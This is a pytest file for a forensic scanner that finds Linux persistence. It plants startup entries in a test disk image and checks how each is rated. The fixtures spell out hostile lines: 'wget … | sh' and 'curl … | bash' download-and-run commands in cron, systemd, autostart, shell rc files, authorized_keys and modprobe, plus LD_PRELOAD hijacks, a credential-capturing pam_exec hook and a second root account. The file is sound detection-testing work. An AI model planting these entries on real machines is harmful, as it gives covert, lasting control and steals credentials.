"""Every Linux start-up place: an entry planted in a disk copy is found with its origin and
behaviour facts at the right severity; an ordinary packaged entry in the same place is not flagged.

The copy has a real-format dpkg database (tests/linux_packages.py) so origins are worked out as on a
real Debian system: packaged files are "installed" (or "system" for base packages), planted ones
"unknown", an edited packaged file "changed"."""

from __future__ import annotations

import base64
from pathlib import Path
from typing import Any

import pytest

from techcheck.artifacts import Artifact
from techcheck.ruleset import load_rules, shipped_rules_dir
from techcheck.scan import ScanResult, run_scan
from techcheck.target import open_image
from tests.conftest import write
from tests.linux_packages import install, link

PASSWD = ("root:x:0:0:root:/root:/bin/bash\nana:x:1000:1000:Ana:/home/ana:/bin/bash\n"
          "toor:x:0:0::/root:/bin/sh\nhelper:x:1001:0::/home/helper:/bin/sh\n")
B64_PY = base64.b64encode(b"import socket,os;print(1)").decode()
UNIT = "[Unit]\nDescription={d}\n[Service]\nExecStart={x}\n[Install]\nWantedBy=multi-user.target\n"
WGET = "wget -qO- http://203.0.113.5/a | sh"


def packaged(root: Path) -> None:
    """Ordinary entries, each owned by a package, in every place."""
    install(root, "cups-daemon", {
        "/usr/lib/systemd/system/cups.service": UNIT.format(d="CUPS Scheduler", x="/usr/sbin/cupsd -l"),
        "/usr/sbin/cupsd": b"\x7fELF cupsd", "/etc/init.d/cups": "#!/bin/sh\n/usr/sbin/cupsd\n",
        "/etc/pam.d/cups": "@include common-auth\nauth required pam_unix.so\n"})
    install(root, "sysstat", {
        "/usr/lib/systemd/system/sysstat-collect.timer": "[Timer]\nOnCalendar=*:00/10\n[Install]\n"
                                                         "WantedBy=sysstat.service\n",
        "/usr/lib/systemd/system/sysstat-collect.service": UNIT.format(d="sysstat",
                                                                       x="/usr/lib/sysstat/debian-sa1 1 1"),
        "/usr/lib/sysstat/debian-sa1": "#!/bin/sh\nexec /usr/lib/sysstat/sa1 \"$@\"\n",
        "/etc/cron.d/sysstat": "5-55/10 * * * * root command -v debian-sa1 > /dev/null && debian-sa1 1 1\n"},
        conffiles=("/etc/cron.d/sysstat",))
    install(root, "anacron", {"/etc/anacrontab": "1\t5\tcron.daily\trun-parts --report /etc/cron.daily\n",
                              "/etc/cron.d/anacron": "30 7 * * * root [ -x /etc/init.d/anacron ] && "
                                                     "/usr/sbin/invoke-rc.d anacron start >/dev/null\n"},
            conffiles=("/etc/anacrontab", "/etc/cron.d/anacron"))
    install(root, "apt", {"/etc/cron.daily/apt-compat": "#!/bin/sh\nexec /usr/lib/apt/apt.systemd.daily\n"},
            priority="important")
    install(root, "pipewire-bin", {"/usr/lib/systemd/user/pipewire.service": UNIT.format(d="PipeWire",
                                                                                          x="/usr/bin/pipewire"),
                                   "/usr/bin/pipewire": b"\x7fELF pw"})
    install(root, "systemd", {"/usr/lib/systemd/system-generators/systemd-fstab-generator": b"\x7fELF gen",
                              "/usr/lib/udev/rules.d/60-block.rules": 'ACTION=="add", RUN+="hdparm"\n',
                              "/usr/lib/udev/hdparm": "#!/bin/sh\n/sbin/hdparm -B 254 $DEVNAME\n",
                              "/usr/lib/modules-load.d/fuse.conf": "fuse\n"}, priority="important")
    install(root, "gnome-software", {"/etc/xdg/autostart/org.gnome.Software.desktop":
                                     "[Desktop Entry]\nType=Application\nName=Software\n"
                                     "Exec=/usr/bin/gnome-software --gapplication-service\n",
                                     "/usr/bin/gnome-software": b"\x7fELF gs"})
    install(root, "base-files", {"/etc/update-motd.d/10-uname": "#!/bin/sh\nuname -snrvm\n"}, priority="required")
    install(root, "network-manager", {"/usr/lib/NetworkManager/dispatcher.d/01-ifupdown":
                                      "#!/bin/sh\n[ -x /bin/run-parts ] && run-parts /etc/network/if-up.d\n"})
    install(root, "gpg-agent", {"/etc/X11/Xsession.d/90gpg-agent": "if [ -n \"$(gpgconf --list-dirs agent-socket)\" ]; "
                                                                   "then :; fi\n"})
    install(root, "openssh-server", {"/etc/ssh/sshd_config": "Include /etc/ssh/sshd_config.d/*.conf\n"
                                     "KbdInteractiveAuthentication no\nUsePAM yes\nSubsystem sftp "
                                     "/usr/lib/openssh/sftp-server\n"}, conffiles=("/etc/ssh/sshd_config",))
    install(root, "libjemalloc2", {"/usr/lib/x86_64-linux-gnu/libjemalloc.so.2": b"\x7fELF jemalloc"})
    wants = "/etc/systemd/system/multi-user.target.wants"
    link(root, "/usr/lib/systemd/system/cups.service", f"{wants}/cups.service")
    link(root, "/usr/lib/systemd/system/sysstat-collect.timer", "/etc/systemd/system/sysstat.service.wants/"
                                                                "sysstat-collect.timer")
    link(root, "/etc/init.d/cups", "/etc/rc2.d/S01cups")
    link(root, "/usr/lib/systemd/user/pipewire.service",
         "/home/ana/.config/systemd/user/default.target.wants/pipewire.service")
    write(root, "home/ana/.config/autostart/org.gnome.Software.desktop",
          "[Desktop Entry]\nType=Application\nName=Software\nExec=/usr/bin/gnome-software --gapplication-service\n")
    write(root, "home/ana/.bashrc", "alias ll='ls -l'\nexport PATH=\"$HOME/.local/bin:$PATH\"\nPS1='\\u@\\h:\\w\\$ '\n"
                                    "[ -x /usr/bin/lesspipe ] && eval \"$(SHELL=/bin/sh lesspipe)\"\n")
    write(root, "home/ana/.config/fish/config.fish", "set -gx EDITOR vim\nalias g git\n")


def planted(root: Path) -> None:
    """One entry no package installed, in every place (what a person with access could add)."""
    write(root, "usr/local/bin/sync-helper", b"\x7fELF sync", mode=0o755)
    write(root, "etc/systemd/system/sync-helper.service", UNIT.format(d="Sync", x="/usr/local/bin/sync-helper"))
    link(root, "/etc/systemd/system/sync-helper.service", "/etc/systemd/system/multi-user.target.wants/"
                                                          "sync-helper.service")
    write(root, "etc/systemd/system/cleanup.service", UNIT.format(d="Cleanup", x=f"/bin/sh -c '{WGET}'"))
    write(root, "etc/systemd/system/cleanup.timer", "[Timer]\nOnBootSec=5min\n[Install]\nWantedBy=timers.target\n")
    link(root, "/etc/systemd/system/cleanup.timer", "/etc/systemd/system/timers.target.wants/cleanup.timer")
    write(root, "etc/systemd/system/report-upload.service", UNIT.format(d="R", x="/usr/local/bin/sync-helper --up"))
    write(root, "etc/systemd/system/nightly.timer", "[Timer]\nOnCalendar=daily\nUnit=report-upload.service\n"
                                                    "[Install]\nWantedBy=timers.target\n")
    link(root, "/etc/systemd/system/nightly.timer", "/etc/systemd/system/timers.target.wants/nightly.timer")
    write(root, "etc/systemd/system/preload.service",
          UNIT.format(d="P", x="/usr/sbin/cupsd") + "[Service]\nEnvironment=LD_PRELOAD=/usr/local/lib/libk.so\n")
    write(root, "usr/local/lib/libk.so", b"\x7fELF k")
    write(root, "home/ana/.config/systemd/user/tracker.service",
          UNIT.format(d="T", x=f"python3 -c \"import base64;exec(base64.b64decode('{B64_PY}'))\""))
    link(root, "/home/ana/.config/systemd/user/tracker.service",
         "/home/ana/.config/systemd/user/default.target.wants/tracker.service")
    write(root, "etc/systemd/system-generators/netfix", "#!/bin/sh\n/usr/local/bin/sync-helper &\n", mode=0o755)
    write(root, "etc/init.d/netmon", "#!/bin/sh\n/usr/local/bin/sync-helper --daemon\n", mode=0o755)
    link(root, "/etc/init.d/netmon", "/etc/rc2.d/S02netmon")
    write(root, "etc/rc.local", f"#!/bin/sh -e\necho {B64_PY} | base64 -d | python3\nexit 0\n", mode=0o755)
    write(root, "etc/rc.common", "/usr/local/bin/sync-helper\n")
    write(root, "etc/cron.d/backup", "*/5 * * * * root /usr/local/bin/sync-helper\n")
    write(root, "var/spool/cron/crontabs/ana", "@reboot curl -fsSL http://203.0.113.5/u | bash\n")
    write(root, "etc/cron.daily/logclean", f"#!/bin/sh\n{WGET}\n", mode=0o755)
    write(root, "etc/cron.d/anacron", "30 7 * * * root /usr/lib/sysstat/debian-sa1 1 1\n")  # packaged file, edited
    write(root, "var/spool/cron/atjobs/a0000101b2c3d4",
          "#!/bin/sh\n# atrun uid=0 gid=0\numask 22\ncd /root || {\n\t echo 'Execution directory inaccessible' >&2\n"
          "\t exit 1\n}\n${SHELL:-/bin/sh} << 'marcinDELIMITER5a1b'\n/usr/local/bin/sync-helper\nmarcinDELIMITER5a1b\n")
    write(root, "etc/xdg/autostart/helper.desktop", "[Desktop Entry]\nType=Application\nName=H\n"
                                                    "Exec=/usr/local/bin/sync-helper\n")
    write(root, "home/ana/.config/autostart/upd.desktop", "[Desktop Entry]\nType=Application\nName=U\n"
                                                          f"Exec=bash -c \"{WGET}\"\n")
    with (root / "home/ana/.bashrc").open("a") as f:
        f.write(f"eval \"$(echo {base64.b64encode(WGET.encode()).decode()} | base64 -d)\"\n")
    write(root, "home/ana/.bash_logout", "curl -s http://203.0.113.5/l | sh\n")
    with (root / "home/ana/.config/fish/config.fish").open("a") as f:
        f.write("curl -s http://203.0.113.5/f | source\n")
    write(root, "etc/profile.d/zz-helper.sh", "nohup /usr/local/bin/sync-helper >/dev/null 2>&1 &\n")
    write(root, "etc/environment", "PATH=\"/usr/local/bin:/usr/bin:/bin\"\nLD_PRELOAD=/usr/local/lib/libk.so\n")
    write(root, "etc/ld.so.preload", "/usr/local/lib/libk.so\n/usr/lib/x86_64-linux-gnu/libjemalloc.so.2\n")
    write(root, "etc/udev/rules.d/99-usb.rules", 'ACTION=="add", SUBSYSTEM=="usb", RUN+="/usr/local/bin/sync-helper"\n')
    write(root, "etc/pam.d/common-auth-x", "auth optional pam_exec.so expose_authtok /usr/local/bin/sync-helper\n"
                                           "auth optional /opt/pam/pam_x.so\n")
    write(root, "etc/ssh/sshd_config.d/x.conf", "Match User ana\n    ForceCommand /usr/local/bin/sync-helper\n")
    write(root, "home/ana/.ssh/authorized_keys",
          f'command="{WGET}" ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIBr2aQbW5V9iVsdqB1tVQDPvzbEB0r9pVa4vY4u0bC4R x\n')
    write(root, "etc/update-motd.d/99-stats", "#!/bin/sh\n/usr/local/bin/sync-helper\n", mode=0o755)
    write(root, "etc/NetworkManager/dispatcher.d/99-vpn", "#!/bin/sh\n/usr/local/bin/sync-helper\n", mode=0o755)
    write(root, "etc/modules-load.d/extra.conf", "hidemod\n")
    write(root, "etc/modprobe.d/usb.conf", f"install usb-storage /bin/sh -c '{WGET}'\n")
    write(root, "etc/X11/Xsession.d/99helper", "/usr/local/bin/sync-helper &\n")


@pytest.fixture(scope="module")
def scans(tmp_path_factory: pytest.TempPathFactory) -> tuple[ScanResult, ScanResult]:
    rules = load_rules([shipped_rules_dir()])
    results = []
    for with_planted in (False, True):
        root = tmp_path_factory.mktemp("planted" if with_planted else "ordinary")
        write(root, "etc/passwd", PASSWD if with_planted else PASSWD.split("toor")[0])
        (root / "root").mkdir()
        packaged(root)
        if with_planted:
            planted(root)
        results.append(run_scan(open_image(str(root)), rules))
    return results[0], results[1]


def severities(result: ScanResult) -> dict[tuple[str, str], set[str]]:
    """(mechanism, entry name) -> severities of the findings that name it."""
    out: dict[tuple[str, str], set[str]] = {}
    for rule, arts in (m for f in result.findings for m in f.matched):  # merged rules count too
        for a in arts:
            out.setdefault((str(a.get("mechanism") or a.kind), str(a.get("name"))), set()).add(rule.severity)
    return out


def entry(result: ScanResult, mechanism: str, name: str) -> Artifact:
    found = [a for a in result.artifacts if a.get("mechanism") == mechanism and a.get("name") == name]
    assert found, f"{mechanism} {name} not found"
    return found[0]


PLANTED: list[tuple[str, str, str, str, set[str]]] = [
    # place, entry name, origin, severity, behaviour tags it must have
    ("systemd", "sync-helper.service", "unknown", "review", set()),
    ("systemd", "cleanup.service", "unknown", "alert", {"download_exec", "inline_code"}),  # started by its timer
    ("systemd", "report-upload.service", "unknown", "review", set()),  # started by a timer of another name
    # set three ways: a unit's Environment=, /etc/environment and /etc/ld.so.preload
    ("ld_preload", "/usr/local/lib/libk.so", "unknown", "alert", set()),
    ("systemd", "tracker.service", "unknown", "alert", {"encoded_code", "inline_code"}),  # a user unit
    ("systemd_generator", "netfix", "unknown", "review", set()),
    ("sysv_init", "netmon", "unknown", "review", set()),
    ("rc_local", "rc.local:2", "unknown", "alert", {"encoded_code"}),
    ("rc_local", "rc.common:1", "unknown", "review", set()),
    ("cron", "backup:1", "unknown", "review", set()),
    ("cron", "ana:1", "unknown", "alert", {"download_exec"}),  # a person's crontab
    ("cron", "logclean", "unknown", "alert", {"download_exec"}),  # judged by the script it runs
    ("cron", "anacron:1", "changed", "review", set()),
    ("at", "a0000101b2c3d4", "unknown", "review", set()),
    ("xdg_autostart", "helper.desktop", "unknown", "review", set()),
    ("xdg_autostart", "upd.desktop", "unknown", "alert", {"download_exec"}),
    ("shell_startup", ".bashrc:5", "unknown", "alert", {"encoded_code"}),
    ("shell_startup", ".bash_logout:1", "unknown", "alert", {"download_exec"}),
    ("shell_startup", "config.fish:3", "unknown", "alert", {"download_exec"}),
    ("shell_startup", "zz-helper.sh:1", "unknown", "review", set()),
    ("udev_rule", "99-usb.rules:1", "unknown", "review", set()),
    ("pam_exec", "common-auth-x:1", "unknown", "alert", set()),
    ("pam_module", "common-auth-x:2", "unknown", "alert", set()),
    ("sshd_command", "ForceCommand (2)", "unknown", "review", set()),
    ("ssh_forced_command", "authorized_keys:1", "unknown", "alert", {"download_exec"}),
    ("motd", "99-stats", "unknown", "review", set()),
    ("nm_dispatcher", "99-vpn", "unknown", "review", set()),
    ("kernel_module", "hidemod", "unknown", "review", set()),
    ("modprobe_install", "usb.conf:1 usb-storage", "unknown", "alert", {"download_exec"}),
    ("session_script", "99helper", "unknown", "review", set()),
]


@pytest.mark.parametrize(("place", "name", "origin", "severity", "tags"), PLANTED)
def test_planted_entry_is_found_with_origin_behaviour_and_severity(
        scans: tuple[ScanResult, ScanResult], place: str, name: str, origin: str, severity: str,
        tags: set[str]) -> None:
    result = scans[1]
    arts = [a for a in result.artifacts if a.get("mechanism") == place and a.get("name") == name]
    assert arts, f"{place} {name} not found"
    assert {a.get("origin") for a in arts} == {origin}
    art = arts[0]
    assert tags <= set(art.get("behaviour") or []), art.get("behaviour")
    found = severities(result).get((place, name), set())
    assert severity in found and not (severity == "review" and "alert" in found), found
    assert all(a.get("enabled") for a in arts)


BENIGN = [("systemd", "cups.service", "installed", "cups-daemon"),
          ("systemd", "sysstat-collect.service", "installed", "sysstat"),
          ("systemd", "pipewire.service", "installed", "pipewire-bin"),
          ("systemd_generator", "systemd-fstab-generator", "system", "systemd"),
          ("sysv_init", "cups", "installed", "cups-daemon"),
          ("cron", "sysstat:1", "installed", "sysstat"), ("cron", "anacrontab:1", "installed", "anacron"),
          ("cron", "apt-compat", "system", "apt"),
          ("xdg_autostart", "org.gnome.Software.desktop", "installed", "gnome-software"),
          ("udev_rule", "60-block.rules:1", "system", "systemd"),
          ("motd", "10-uname", "system", "base-files"),
          ("nm_dispatcher", "01-ifupdown", "installed", "network-manager"),
          ("session_script", "90gpg-agent", "installed", "gpg-agent"),
          ("kernel_module", "fuse", "system", "systemd")]


@pytest.mark.parametrize(("place", "name", "origin", "package"), BENIGN)
def test_packaged_entry_in_the_same_place_is_not_flagged(scans: tuple[ScanResult, ScanResult], place: str,
                                                         name: str, origin: str, package: str) -> None:
    for result in scans:
        art = entry(result, place, name)
        assert (art.get("origin"), art.get("origin_name")) == (origin, package)
        assert severities(result).get((place, name), set()) == set()


def test_ordinary_copy_has_no_finding_and_the_planted_one_flags_accounts(scans: tuple[ScanResult, ScanResult]) -> None:
    ordinary, planted_scan = scans
    assert [(f.rule.id, f.severity) for f in ordinary.findings if f.severity != "info"] == []
    accounts = {(a.get("name"), f.rule.id, f.severity) for f in planted_scan.findings for a in f.artifacts
                if a.kind == "account" and f.severity != "info"}
    assert accounts == {("toor", "linux.account.second-root", "alert"),
                        ("helper", "linux.account.root-group", "review")}
    # A person's ordinary files raise nothing: aliases, PATH, prompt, lesspipe; gnome-software's autostart.
    personal_flags = [a.get("name") for f in ordinary.findings for a in f.artifacts if a.get("personal")]
    assert personal_flags == []


def test_startup_section_lists_planted_entries_with_origin(scans: tuple[ScanResult, ScanResult]) -> None:
    from techcheck.report.model import build_report

    section: dict[str, Any] = build_report(scans[1])["startup"]
    places = {p["place"]: p["entries"] for p in section["places"]}
    assert {"systemd", "cron", "udev_rule", "pam_exec", "motd", "nm_dispatcher", "kernel_module"} <= set(places)
    assert places["systemd"][0]["origin"] == "unknown"  # the doubtful ones first
    assert section["by_origin"]["unknown"] >= len([p for p in PLANTED if p[2] == "unknown"])


RPM_UNIT = "[Unit]\nDescription=Fed sync\n[Service]\nExecStart=/usr/libexec/fedsync/run.sh\n[Install]\n" \
           "WantedBy=multi-user.target\n"
RPM_SCRIPT = "#!/bin/sh\nexec sleep 60\n"


def rpm_tree(root: Path, script: str) -> Path:
    """A Fedora-like copy whose rpm SQLite database (tests/data/rpmdb-files.sqlite, see its README)
    owns fedsync's unit and script."""
    import shutil

    write(root, "etc/passwd", PASSWD.split("toor")[0])
    (root / "var/lib/rpm").mkdir(parents=True)
    shutil.copyfile(Path(__file__).parent / "data/rpmdb-files.sqlite", root / "var/lib/rpm/rpmdb.sqlite")
    write(root, "usr/lib/systemd/system/fedsync.service", RPM_UNIT)
    write(root, "usr/libexec/fedsync/run.sh", script, mode=0o755)
    link(root, "/usr/lib/systemd/system/fedsync.service",
         "/etc/systemd/system/multi-user.target.wants/fedsync.service")
    return root


def test_rpm_sqlite_database_gives_origins_and_changed_files(tmp_path: Path) -> None:
    rules = load_rules([shipped_rules_dir()])
    ordinary = run_scan(open_image(str(rpm_tree(tmp_path / "ok", RPM_SCRIPT))), rules)
    art = entry(ordinary, "systemd", "fedsync.service")
    assert (art.get("origin"), art.get("origin_name")) == ("installed", "fedsync")
    assert [f.rule.id for f in ordinary.findings if f.severity != "info"] == []
    edited = run_scan(open_image(str(rpm_tree(tmp_path / "edited", RPM_SCRIPT + f"{WGET}\n"))), rules)
    art = entry(edited, "systemd", "fedsync.service")
    assert (art.get("origin"), art.get("origin_name")) == ("changed", "fedsync")
    assert "download_exec" in art.get("behaviour")  # the script it runs is read and judged
    assert severities(edited)[("systemd", "fedsync.service")] == {"alert", "review"}


def test_older_rpm_database_is_noted_as_not_checked(tmp_path: Path) -> None:
    root = tmp_path / "old"
    write(root, "etc/passwd", PASSWD.split("toor")[0])
    write(root, "var/lib/rpm/Packages", b"\x00\x06\x15\x61" + b"\x00" * 60)  # a Berkeley DB hash file's magic
    write(root, "etc/systemd/system/x.service", UNIT.format(d="x", x="/usr/bin/x"))
    result = run_scan(open_image(str(root)), load_rules([shipped_rules_dir()]))
    notes = [n.message for c in result.checks for n in c.notes]
    assert any("older rpm database format" in m for m in notes)
    assert entry(result, "systemd", "x.service").get("origin") is None  # not known, so not called unknown


def test_ld_preload_of_running_programs_on_a_live_scan(tmp_path: Path) -> None:
    """/proc/<pid>/environ of running programs (a live target rooted in a folder laid out like /proc)."""
    from techcheck.collectors.base import Context
    from techcheck.collectors.linux.preload import LinuxPreload
    from techcheck.target.live import LiveTarget

    root = tmp_path / "live"
    write(root, "etc/passwd", PASSWD.split("toor")[0])
    install(root, "libjemalloc2", {"/usr/lib/x86_64-linux-gnu/libjemalloc.so.2": b"\x7fELF jemalloc"})
    write(root, "proc/412/environ", b"HOME=/home/ana\x00LD_PRELOAD=/home/ana/.cache/.k/libk.so\x00TERM=xterm\x00")
    write(root, "proc/413/environ", b"LD_PRELOAD=/usr/lib/x86_64-linux-gnu/libjemalloc.so.2\x00")
    write(root, "proc/self/environ", b"LD_PRELOAD=/ignored.so\x00")
    write(root, "home/ana/.cache/.k/libk.so", b"\x7fELF k")
    target = LiveTarget(mode="live", os="linux", root=str(root), case_insensitive=False)
    arts = {a.get("name"): a for a in LinuxPreload().collect(target, Context())}
    assert set(arts) == {"/home/ana/.cache/.k/libk.so", "/usr/lib/x86_64-linux-gnu/libjemalloc.so.2"}
    assert arts["/home/ana/.cache/.k/libk.so"].get("origin") == "unknown"
    assert arts["/home/ana/.cache/.k/libk.so"].location.path == "/proc/412/environ"
    assert arts["/usr/lib/x86_64-linux-gnu/libjemalloc.so.2"].get("origin_name") == "libjemalloc2"
    image = open_image(str(root))  # a disk copy's /proc is not read: programs are not running there
    assert [a.get("name") for a in LinuxPreload().collect(image, Context())] == []
